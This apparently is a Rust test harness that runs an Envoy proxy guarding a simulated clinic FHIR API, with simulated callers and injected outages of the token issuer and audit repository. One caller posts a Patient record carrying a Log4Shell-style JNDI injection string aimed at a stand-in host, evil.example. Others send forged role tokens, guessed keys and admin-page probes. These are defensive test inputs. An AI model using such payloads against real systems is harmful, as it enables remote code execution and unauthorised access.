//! The shipped Envoy with a policy that has a bit of everything, and callers who do all that a panel shows: an issuer that
//! goes away, keys that are guessed, an upstream that sends what it should not, an audit repository that fails.

use std::io;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::time::{Duration, Instant};
use std::{fs, thread};

use serde_json::{Value, json};

use crate::fhir;
use crate::support::client::Protocol;
use crate::support::config::{self, Shipped};
use crate::support::envoy::{Envoy, module};
use crate::support::message::Request;
use crate::support::tls::Certificates;
use crate::support::token::{self, LEGACY_KEY, Signer, Token, tampered};
use crate::support::upstream::{Reply, Seen, Upstream};

const PATIENT: &str = "/fhir/Patient/pat-1";
const CSV: &str = "/export/codes.csv";
const BROKEN: &str = "/export/broken.ndjson";

/// Envoy, what it guards, the issuer, and the audit repository.
pub(crate) struct Stage {
    pub(crate) envoy: Envoy,
    _upstream: Upstream,
    _issuer: Upstream,
    _repository: Upstream,
    issuer_is_down: Arc<AtomicBool>,
    repository_is_down: Arc<AtomicBool>,
    callers: Vec<Caller>,
}

/// A kind of request, and how many come a second at a time between 0 and 1.
struct Caller {
    request: Box<dyn Fn() -> Request + Send + Sync>,
    rate: fn(f64) -> f64,
}

impl Stage {
    pub(crate) fn start() -> Self {
        let issuer_is_down = Arc::new(AtomicBool::new(false));
        let is_down = Arc::clone(&issuer_is_down);
        let issuer = Upstream::serving(0, move |seen: &Seen| match seen.path.as_str() {
            _ if is_down.load(Ordering::Relaxed) => Reply::new(503),
            "/jwks.json" => Reply::json(&json!({ "keys": [token::public_key()] })),
            _ => about_token(&seen.body),
        });
        let issuer = issuer.expect("a loopback port");
        let repository_is_down = Arc::new(AtomicBool::new(false));
        let repository = repository(Arc::clone(&repository_is_down)).expect("a loopback port");
        let upstream = Upstream::serving(0, fhir::answer).expect("a loopback port");
        upstream.reply(CSV, Reply::new(200).header("content-type", "text/csv").body("code,text\n"));
        let lines = "{\"resourceType\":\"Patient\",\"gender\":\"female\",\"active\":true}\n".repeat(20_000) + "{\"resource";
        upstream.reply(BROKEN, Reply::new(200).header("content-type", "application/fhir+ndjson").body(&lines));
        let json = Reply::new(200).header("content-type", "application/fhir+json");
        upstream.reply("/fhir/Patient/torn", json.clone().body(r#"{"resourceType":"Patient","id":"torn"#));
        upstream.reply("/fhir/Patient/other", json.body(r#"{"resourceType":"Coverage","id":"other"}"#));

        let (phi, audit) = (("PHI_KEY", LEGACY_KEY), ("AUDIT_KEY", "an audit key of the panels, long enough"));
        let certificates = Certificates::generate(&["localhost"]).expect("certificates");
        let policy = policy().to_string();
        let shipped = Shipped { policy: &policy, secrets: &[phi, audit], certificates, port: 0, admin_port: 0 };
        let envoy = Envoy::shipped(&shipped, &upstream, |yaml| with_others(&yaml, &issuer, &repository));
        Self {
            envoy,
            _upstream: upstream,
            _issuer: issuer,
            _repository: repository,
            issuer_is_down,
            repository_is_down,
            callers: callers(),
        }
    }

    /// The address of the admin interface.
    pub(crate) fn admin(&self) -> String {
        let path = self.envoy.output_path().with_file_name("admin.address");
        fs::read_to_string(path).expect("Envoy's admin address")
    }

    /// Sends one request of every kind.
    pub(crate) fn ask_once(&self) {
        for caller in &self.callers {
            self.envoy.client().send(Protocol::Http1, &(caller.request)());
        }
    }

    /// Hands Envoy a policy, right or wrong.
    pub(crate) fn hand_over(&self, policy: &str) -> io::Result<()> {
        let directory = self.envoy.output_path().with_file_name("envoy");
        fs::write(directory.join("filter.next"), config::shipped_filter(&module(), policy))?;
        fs::rename(directory.join("filter.next"), directory.join("filter.yaml"))
    }

    /// Has all callers come for so long, and things go wrong meanwhile.
    pub(crate) fn live(&self, length: Duration) -> io::Result<()> {
        let start = Instant::now();
        let now = || start.elapsed().as_secs_f64() / length.as_secs_f64();
        thread::scope(|scope| {
            for caller in &self.callers {
                scope.spawn(move || {
                    while now() < 1.0 {
                        let rate = (caller.rate)(now());
                        if rate > 0.0 {
                            self.envoy.client().send(Protocol::Http1, &(caller.request)());
                        }
                        thread::sleep(Duration::from_secs_f64(if rate > 0.0 { 1.0 / rate } else { 0.2 }));
                    }
                });
            }
            let wait_until = |time: f64| thread::sleep(length.mul_f64((time - now()).max(0.0)));
            wait_until(0.2);
            let mut policy = policy();
            policy["routes"][4]["addresses"]["deny"] = json!(["198.51.100.0/24"]);
            self.hand_over(&policy.to_string())?;
            wait_until(0.4);
            self.issuer_is_down.store(true, Ordering::Relaxed);
            wait_until(0.46);
            self.repository_is_down.store(true, Ordering::Relaxed);
            wait_until(0.54);
            self.repository_is_down.store(false, Ordering::Relaxed);
            wait_until(0.6);
            policy["routes"][0]["authorise"] = json!([]);
            self.hand_over(&policy.to_string())?;
            wait_until(0.8);
            self.issuer_is_down.store(false, Ordering::Relaxed);
            Ok(())
        })
    }
}

/// What an issuer says of an opaque token.
fn about_token(form: &[u8]) -> Reply {
    let known = String::from_utf8_lossy(form).starts_with("token=good");
    let scope = json!({ "active": true, "aud": "api", "sub": "app-1", "scope": "nurse", "client_id": "app" });
    Reply::json(&if known { scope } else { json!({ "active": false }) })
}

/// An audit repository that fails for a while, and a call now and then, and that rejects an event now and then.
fn repository(is_down: Arc<AtomicBool>) -> io::Result<Upstream> {
    let (calls, events) = (AtomicUsize::new(0), AtomicUsize::new(0));
    let is_each = |count: &AtomicUsize, each: usize| count.fetch_add(1, Ordering::Relaxed) % each == each - 1;
    Upstream::forgetful(([127, 0, 0, 1], 0).into(), move |seen: &Seen| {
        if is_down.load(Ordering::Relaxed) || is_each(&calls, 25) {
            return Reply::new(503);
        }
        let batch: Value = serde_json::from_slice(&seen.body).expect("a batch is JSON");
        let take = |_: &Value| {
            let status = if is_each(&events, 150) { "422 Unprocessable Entity" } else { "201 Created" };
            json!({ "response": { "status": status } })
        };
        let entries: Vec<Value> = batch["entry"].as_array().expect("entries").iter().map(take).collect();
        Reply::fhir(&json!({ "resourceType": "Bundle", "type": "batch-response", "entry": entries }))
    })
}

/// The clinic's policy with keys that are fetched, opaque tokens, an issuer with a shared secret, a media type that is let
/// through unread, and an audit repository that events wait for in a queue that can be filled.
fn policy() -> Value {
    let text = include_str!("../../policies/clinic/policy.json");
    let mut policy: Value = serde_json::from_str(text).expect("a policy");
    let providers = &mut policy["authentication"];
    providers["smart"]["jwks"] =
        json!({ "remote": { "cluster": "idp", "uri": "https://idp.clinic.example/jwks.json", "refresh": "45s" } });
    providers["opaque"] = json!({
        "type": "introspection", "cluster": "idp", "uri": "https://idp.clinic.example/introspect",
        "client_id": "carewarden", "client_secret": { "env": "AUDIT_KEY" }, "audiences": ["api"],
        "claim_map": { "roles": "/scope" }, "max_age": "10s",
    });
    providers["legacy"] = json!({
        "type": "jwt", "issuer": "https://legacy.clinic.example", "audiences": ["https://fhir.clinic.example"],
        "algorithms": ["HS256"], "secret": { "env": "PHI_KEY" }, "claim_map": { "roles": "/roles" },
    });
    for key in providers["partners"]["keys"].as_array_mut().expect("keys") {
        // The picture can be drawn on any day.
        key.as_object_mut().expect("a key").remove("not_after");
    }
    policy["defaults"]["authenticate"]["any"] = json!(["smart", "legacy", "opaque", "partners"]);
    let export = policy["routes"].as_array_mut().expect("routes").iter_mut().find(|route| route["name"] == "export");
    export.expect("a route for exports")["response"]["unredacted_media_types"] = json!(["text/csv"]);
    policy["audit"]["delivery"] =
        json!({ "cluster": "audit", "uri": "https://audit.clinic.example/fhir", "max_queue": 500 });
    policy
}

/// `envoy/envoy.yaml` with the clusters of the issuer and the audit repository, and a share for each client that few callers
/// can exceed.
fn with_others(yaml: &str, issuer: &Upstream, repository: &Upstream) -> String {
    let (clusters, share) = ("  clusters:\n", "{ max_tokens: 100, tokens_per_fill: 50, fill_interval: 1s }");
    assert!(yaml.matches(clusters).count() == 1 && yaml.matches(share).count() == 1);
    let cluster = |name: &str, server: &Upstream| {
        let endpoint = format!("{{ address: 127.0.0.1, port_value: {} }}", server.address.port());
        format!(
            "    - name: {name}\n      type: STATIC\n      load_assignment:\n        cluster_name: {name}\n        \
             endpoints: [{{ lb_endpoints: [{{ endpoint: {{ address: {{ socket_address: {endpoint} }} }} }}] }}]\n"
        )
    };
    let others = format!("{clusters}{}{}", cluster("idp", issuer), cluster("audit", repository));
    let small = "{ max_tokens: 20, tokens_per_fill: 10, fill_interval: 1s }";
    yaml.replace(clusters, &others).replace(share, small)
}

/// A rate that goes up and down a little.
fn about(mean: f64, time: f64) -> f64 {
    mean * 0.25f64.mul_add((time * 25.0).sin(), 1.0)
}

/// A rate for a while.
fn during(from: f64, to: f64, rate: f64, time: f64) -> f64 {
    if (from..to).contains(&time) { rate } else { 0.0 }
}

fn staff(subject: &str, role: &str) -> String {
    let token = Token::smart(subject, &[]).without("roles").claim("exp", token::now() + 3_000);
    token.claim("realm_access", json!({ "roles": [role] })).sign(Signer::Es256)
}

fn callers() -> Vec<Caller> {
    fn caller(rate: fn(f64) -> f64, request: impl Fn() -> Request + Send + Sync + 'static) -> Caller {
        Caller { request: Box::new(request), rate }
    }
    /// Comes with one token again and again.
    fn known(rate: fn(f64) -> f64, token: String, request: Request) -> Caller {
        caller(rate, move || request.clone().bearer(&token))
    }
    let get = Request::get;
    let billing = |request: Request| request.key("billing-test-key");
    let study = |path: &str| Request::get(path).key("study-test-key");
    let desk = || staff("desk-ruiz", "front-desk");
    let note = r#"{"resourceType":"Patient","name":[{"text":"${jndi:ldap://evil.example/a}"}]}"#;
    let patient = r#"{"resourceType":"Patient","active":true}"#;
    let forged = tampered(&staff("nurse-lee", "nurse"), "realm_access", json!({ "roles": ["physician"] }));
    let expired = Token::smart("dr-okafor", &[]).claim("exp", token::now() - 3_600).sign(Signer::Es256);
    vec![
        known(|time| about(8.0, time), staff("dr-okafor", "physician"), get("/fhir/Patient/pat-1/$everything")),
        known(|time| about(6.0, time * 0.8), staff("nurse-lee", "nurse"), get("/fhir/Observation/obs-1")),
        caller(|time| about(2.0, time), move || get(PATIENT).bearer(&staff("nurse-diaz", "nurse"))),
        caller(|time| about(5.0, time * 1.3), move || billing(get("/fhir/Patient?_count=10"))),
        known(|_| 1.5, desk(), Request::post("/fhir/Patient", patient)),
        known(|_| 0.3, desk(), Request::post("/fhir/Patient", note)),
        caller(|_| 1.0, move || get("/fhir/metadata")),
        // The study: exports, a table of codes, and for a while far more than its share.
        caller(|time| during(0.1, 0.9, 0.5, time), move || study("/export/Patient.ndjson")),
        caller(|_| 0.8, move || study(CSV)),
        caller(|time| during(0.5, 0.68, 25.0, time), move || study("/export/none")),
        // Those who are refused.
        caller(|_| 0.8, move || get(PATIENT)),
        caller(|time| during(0.28, 0.42, 9.0, time), move || get(PATIENT).key("guessed")),
        known(|_| 0.7, expired, get(PATIENT)),
        known(|time| during(0.15, 0.35, 1.5, time), forged, get(PATIENT)),
        known(|_| 0.6, staff("nurse-lee", "nurse"), get("/fhir/Coverage/cov-1")),
        caller(|_| 0.4, move || billing(get("/fhir/Patient?family=Doe"))),
        caller(|time| during(0.3, 0.9, 0.7, time), move || get("/admin/login.php")),
        // Opaque tokens, new ones now and then, and an issuer who signs with a shared secret.
        known(|_| 2.0, "good-1".to_owned(), get("/fhir/Observation/obs-1")),
        known(|_| 0.5, "bad-1".to_owned(), get("/fhir/Observation/obs-1")),
        caller(|_| 1.0, move || get(PATIENT).bearer(&Token::legacy("old-app", &["nurse"]).sign(Signer::Hs256))),
        // An upstream that fails.
        known(|time| during(0.7, 0.85, 1.2, time), staff("nurse-lee", "nurse"), get("/fhir/Patient/torn")),
        known(|time| during(0.75, 0.95, 0.8, time), staff("nurse-lee", "nurse"), get("/fhir/Patient/other")),
        caller(|time| during(0.4, 0.8, 0.3, time), move || study(BROKEN)),
    ]
}
